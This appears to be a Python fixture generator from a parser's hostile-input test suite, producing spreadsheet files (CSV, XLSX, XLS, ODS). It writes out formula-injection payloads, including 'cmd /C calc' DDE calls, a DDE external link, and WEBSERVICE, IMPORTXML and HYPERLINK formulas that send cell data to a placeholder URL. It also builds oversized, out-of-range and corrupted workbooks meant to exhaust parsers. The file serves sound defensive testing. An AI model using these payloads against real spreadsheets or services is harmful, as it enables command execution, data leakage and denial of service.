"""Workbooks and tables: sheets larger than the world, cells that compute or call, tables without end."""

# ruff: noqa: E501 (long lines here are the content of files)
from __future__ import annotations

import runpy
import struct
from collections.abc import Iterator
from typing import Any

from tests.data.documents.makers import spreadsheets
from tests.hostile.golden import DOCUMENTS, good, parts, with_part

FORMULAS = (
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"{url}csv?\"&A1,\"see\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!D2", "\t=1+1",
    "\r=1+1", "=IMPORTXML(\"{url}xml\",\"//a\")", "=WEBSERVICE(\"{url}web\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "＝1+1", "=1+1;=2+2", "\"=1+1",
)  # fmt: skip


def files(_seed: int, url: str) -> Iterator[tuple[str, bytes]]:
    """Every one of them."""
    yield from _formulas(url)
    yield from _separated()
    yield from _workbooks(url)
    yield from _old()
    yield from _open_document()


def _formulas(url: str) -> Iterator[tuple[str, bytes]]:
    words = [each.replace("{url}", url) for each in FORMULAS]
    xlsx = runpy.run_path(str(DOCUMENTS / "make.py"))["xlsx"]
    for number, formula in enumerate(words):
        quoted = '"' + formula.replace('"', '""') + '"'
        for name, separator, encoding in (
            ("comma", ",", "utf-8-sig"),
            ("semicolon", ";", "cp1251"),
            ("tab", "\t", "utf-16"),
        ):
            rows = "\r\n".join(separator.join(("name", "boat", quoted)) for _ in range(3))
            yield f"formulas/{name}-{number}.csv", rows.encode(encoding, "replace")
        told = formula.replace("&", "&amp;").replace("<", "&lt;").replace("\r", "&#13;")
        yield (
            f"formulas/computed-{number}.xlsx",
            xlsx(
                f'<row r="1"><c r="A1"><f>{told.lstrip("=")}</f><v>7</v></c><c r="B1" t="inlineStr"><is><t>{told}</t></is></c></row>'
            ),
        )


def _separated() -> Iterator[tuple[str, bytes]]:
    yield "tables/million-columns.csv", b",".join(b"%d" % n for n in range(1_000_000)) + b"\n" + b"," * 999_999 + b"\n"
    yield "tables/million-lines.csv", b"a;b\n" * 1_000_000
    yield "tables/quote-never-closed.csv", b'a,"b\n' + b"c,d\n" * 500_000
    yield "tables/quotes.csv", b'""""""""' * 1_000_000
    yield "tables/one-field.csv", b'a,"' + b"x" * 20_000_000 + b'"\n'
    yield "tables/nuls.csv", b"a,b\n" + b"\x00,\x00\n" * 1_000
    yield "tables/uneven.csv", b"".join(b"," * (n % 997) + b"\n" for n in range(5_000))
    yield "tables/line-ends.csv", b"a,b\rc,d\n\re,f\x0b\x0cg,h\xc2\x85i,j\xe2\x80\xa8k,l\x1c\x1d\x1e\n" * 100
    yield "tables/sep.csv", b"sep=\x00\r\na\x00b\r\n"
    yield "tables/separators.csv", b",;\t|:" * 100_000
    yield "tables/columns.tsv", b"\t" * 5_000_000
    yield "tables/utf-16-odd.csv", "a;b\r\n".encode("utf-16") + b"x"
    yield "tables/surrogates.csv", b"\xff\xfe" + struct.pack("<4H", 0xD800, 0xD800, 0xDC00, 0x0A)


def _workbooks(url: str) -> Iterator[tuple[str, bytes]]:
    make = runpy.run_path(str(DOCUMENTS / "make.py"))["xlsx"]

    def xlsx(rows: str, **more: Any) -> bytes:
        made: bytes = make(rows, **more)
        return made

    one = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    merged = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, 1_000_001))
    yield "tables/merged-million.xlsx", xlsx(one, after=f"<mergeCells>{merged}</mergeCells>", strings=_strings(1))
    yield (
        "tables/merged-all.xlsx",
        xlsx(
            one,
            after='<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A1:XFD1048576"/></mergeCells>',
            strings=_strings(1),
        ),
    )
    yield (
        "tables/merged-backwards.xlsx",
        xlsx(
            one,
            after='<mergeCells><mergeCell ref="Z9:A1"/><mergeCell ref="A0:A-1"/><mergeCell ref="AAAAAAAA1:B99999999999"/></mergeCells>',
            strings=_strings(1),
        ),
    )
    yield "tables/strings-million.xlsx", xlsx(one, strings=_strings(1_000_000))
    yield (
        "tables/string-beyond.xlsx",
        xlsx(one.replace("<v>0<", "<v>4294967295<") + one.replace("<v>0<", "<v>-1<"), strings=_strings(1)),
    )
    yield (
        "tables/corner.xlsx",
        xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', before='<dimension ref="A1:XFD1048576"/>'),
    )
    yield (
        "tables/beyond-corner.xlsx",
        xlsx('<row r="99999999999999999999"><c r="ZZZZZZZZZZ99999999999999999999"><v>1</v></c></row>'),
    )
    yield "tables/no-places.xlsx", xlsx("<row><c><v>1</v></c></row>" * 10_000)
    yield "tables/twice.xlsx", xlsx('<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>' * 1_000)
    yield (
        "tables/numbers.xlsx",
        xlsx(
            "".join(
                f'<row r="{n}"><c r="A{n}"><v>{v}</v></c></row>'
                for n, v in enumerate(("1e999999", "NaN", "-INF", "9" * 5_000, "", "x", "1e-999", "0x10"), 1)
            )
        ),
    )
    yield (
        "tables/dates.xlsx",
        xlsx(
            "".join(
                f'<row r="{n}"><c r="A{n}" t="d"><v>{v}</v></c></row>'
                for n, v in enumerate(("9999999-99-99", "-1", "2019-02-30T25:61:61"), 1)
            )
        ),
    )
    yield (
        "tables/styles.xlsx",
        xlsx(
            one.replace('t="s"', 's="4294967295"'),
            styles='<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>'
            + "<xf numFmtId='164'/>" * 200_000
            + "</cellXfs></styleSheet>",
        ),
    )
    yield "tables/columns.xlsx", xlsx('<row r="1">' + "<c><v>1</v></c>" * 200_000 + "</row>")
    yield (
        "tables/hidden-columns.xlsx",
        xlsx(one, before='<cols><col min="1" max="4294967295" hidden="1"/></cols>', strings=_strings(1)),
    )
    yield (
        "tables/conditions.xlsx",
        xlsx(
            one,
            after="".join(
                f'<conditionalFormatting sqref="{"A1:XFD1048576 " * 200}"><cfRule type="expression" priority="{n}"><formula>A1=1</formula></cfRule></conditionalFormatting>'
                for n in range(200)
            ),
            strings=_strings(1),
        ),
    )
    book = parts(good()["register.xlsx"])["xl/workbook.xml"]
    sheets = b"".join(b'<sheet name="S%d" sheetId="%d" r:id="rId1"/>' % (n, n) for n in range(1, 20_000))
    yield (
        "tables/sheets-20000.xlsx",
        with_part(good()["register.xlsx"], "xl/workbook.xml", book.replace(b"<sheets>", b"<sheets>" + sheets)),
    )
    yield (
        "tables/names.xlsx",
        with_part(
            good()["register.xlsx"],
            "xl/workbook.xml",
            book.replace(
                b"</workbook>",
                b"<definedNames>"
                + b"".join(b'<definedName name="n%d">n%d</definedName>' % (n, n + 1) for n in range(50_000))
                + b"</definedNames></workbook>",
            ),
        ),
    )
    link = f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc {url}dde"><ddeItems><ddeItem name="x"/></ddeItems></ddeLink></externalLink>'
    yield "tables/dde.xlsx", with_part(good()["register.xlsx"], "xl/externalLinks/externalLink1.xml", link.encode())


def _strings(count: int) -> str:
    return (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + "<si><t>INVENTED</t></si>" * count
        + "</sst>"
    )


def _old() -> Iterator[tuple[str, bytes]]:
    cell, compound, globals_of, record, sheet_of = (
        getattr(spreadsheets, name) for name in ("cell", "compound", "globals_of", "record", "sheet_of")
    )

    def book(records: bytes, extra: bytes = b"") -> bytes:
        made: bytes = compound({"Workbook": globals_of((("S", 0, 0),), sheet_of(records), extra)})
        return made

    yield "tables/cells-65536.xls", book(b"".join(cell(n % 65_536 + 1, 256, n) for n in range(65_536)))
    yield (
        "tables/merged.xls",
        book(
            cell(1, 1, "x")
            + record(0xE5, struct.pack("<H", 1_026) + struct.pack("<HHHH", 0, 65_535, 0, 255) * 1_026) * 50
        ),
    )
    yield (
        "tables/strings-beyond.xls",
        book(
            record(0xFD, struct.pack("<HHHI", 0, 0, 0, 2**32 - 1)),
            record(0xFC, struct.pack("<II", 2**32 - 1, 2**32 - 1) + b"\xff\xff\x01ab"),
        ),
    )
    yield "tables/string-length.xls", book(record(0x204, struct.pack("<HHHHB", 0, 0, 0, 0xFFFF, 1) + b"ab"))
    yield "tables/record-length.xls", book(cell(1, 1, 7)).replace(b"\x03\x02\x0e\x00", b"\x03\x02\xff\xff")
    yield (
        "tables/formula-tokens.xls",
        book(record(0x06, struct.pack("<HHHdHIH", 0, 0, 0, 1.0, 0, 0, 0xFFFF) + b"\x01\x00\x00\x00\x00" * 10)),
    )
    yield (
        "tables/formula-of-itself.xls",
        book(
            record(0x06, struct.pack("<HHHdHIH", 0, 0, 0, 1.0, 0, 0, 5) + b"\x01\x00\x00\x00\x00")
            + record(0x4BC, struct.pack("<HHBBHHH", 0, 65_535, 0, 255, 0, 1, 5) + b"\x02\x00\x00\x00\x00")
        ),
    )
    yield "tables/labels-million.xls", book(record(0x204, struct.pack("<HHHHB", 0, 0, 0, 1, 0) + b"a") * 1_000_000)
    whole = good()["register.xls"]
    for at, name in (
        (30, "sector"),
        (44, "tables"),
        (48, "directory"),
        (60, "small"),
        (68, "more-tables"),
        (72, "count-of-more"),
        (76, "first"),
    ):
        for lie in (0, 1, 0xFFFFFFFE, 0x7FFFFFFF):
            yield f"tables/compound-{name}-{lie}.xls", whole[:at] + struct.pack("<I", lie) + whole[at + 4 :]
    yield "tables/compound-tables-in-a-circle.xls", whole[:68] + struct.pack("<II", 0, 10_000_000) + whole[76:]


def _open_document() -> Iterator[tuple[str, bytes]]:
    ods = spreadsheets.ods
    cell = '<table:table-cell{} office:value-type="string"><text:p>INVENTED</text:p></table:table-cell>'
    row = "<table:table-row{}>{}</table:table-row>"
    table = '<table:table table:name="A">{}</table:table>'
    columns, rows = ' table:number-columns-repeated="16384"', ' table:number-rows-repeated="1048576"'
    yield "tables/repeated.ods", ods(table.format(row.format(rows, cell.format(columns))))
    yield (
        "tables/repeated-beyond.ods",
        ods(
            table.format(
                row.format(
                    ' table:number-rows-repeated="99999999999999999999"',
                    cell.format(' table:number-columns-repeated="-5"'),
                )
            )
        ),
    )
    yield "tables/repeated-nothing.ods", ods(table.format(row.format(rows, f"<table:table-cell{columns}/>") * 500))
    yield (
        "tables/spanned.ods",
        ods(
            table.format(
                row.format(
                    "", cell.format(' table:number-columns-spanned="2147483647" table:number-rows-spanned="2147483647"')
                )
            )
        ),
    )
    yield (
        "tables/spaces.ods",
        ods(
            table.format(
                row.format("", '<table:table-cell><text:p><text:s text:c="2147483647"/>x</text:p></table:table-cell>')
            )
        ),
    )
    yield "tables/deep.ods", ods(table.format("<table:table-row-group>" * 5_000))
    yield "tables/sheets-20000.ods", ods("".join(f'<table:table table:name="T{n}"/>' for n in range(20_000)))
